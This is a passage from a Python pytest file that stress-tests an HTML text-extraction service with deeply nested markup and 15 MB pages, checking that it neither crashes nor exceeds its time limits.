from server.services.extraction import extract
html = {build}
article = extract(html, "https://example.com/page")
print(json.dumps({{"size": len(html), "text": article.text[:200], "words": article.word_count}}))
"""

DEEP = {
    "div": '"<div>" * 50_000 + "deep text"',
    "inline": '"<b>" * 50_000 + "deep text"',
    "table": '"<table><tr><td>" * 20_000',
    "list": '"<ul><li>" * 30_000',
    "anchor": '"<a href=x>" * 50_000',
    "svg": '"<svg>" + "<g>" * 50_000',
    "closed": '"<p>before</p>" + "<div>" * 1_000 + "deep text" + "</div>" * 1_000 + "<p>after</p>"',
}


@pytest.mark.parametrize("name", DEEP)
def test_deep_nesting_neither_crashes_nor_hangs(name):
    result = run_isolated(RUN_EXTRACT.format(build=DEEP[name]), timeout=60)
    if name == "closed":  # moderately deep but well-formed: nothing is lost
        assert result["text"] == "before\n\ndeep text\n\nafter"


# A 15 MB page of the realistic kind: a long article in a page with heavy
# navigation, a big inline state script and a long list of related links.
BIG_PAGE = """(
    "<html><head><title>Big page</title><script>window.__STATE__ = "
    + json.dumps({"items": [{"id": i, "name": "item %d" % i} for i in range(200_000)]})
    + "</script></head><body><nav>" + "<a href='/s'>Section</a>" * 5_000 + "</nav><article>"
    + "<p>The quick brown fox jumps over the lazy dog, again and again. </p>" * 80_000
    + "</article><aside>" + "<div><a href='/r'>Related story</a></div>" * 20_000
    + "</aside></body></html>"
)"""
# 15 MB with hundreds of thousands of small elements and no article.
BIG_MARKUP = '"<div><div><div><span>lorem ipsum dolor sit amet</span></div></div></div>" * 200_000'
BIG_TEXT = '"word " * 3_000_000'


@pytest.mark.parametrize("build", [BIG_PAGE, BIG_MARKUP, BIG_TEXT], ids=["page", "markup", "text"])
def test_15_mb_page_finishes_in_bounded_time(build):
    # Measured 3-12 s on 2 busy cores; a quadratic step would take far longer than the timeout.
    result = run_isolated(RUN_EXTRACT.format(build=build), timeout=120)
    assert result["size"] >= 14_000_000
    assert result["words"] > 100_000
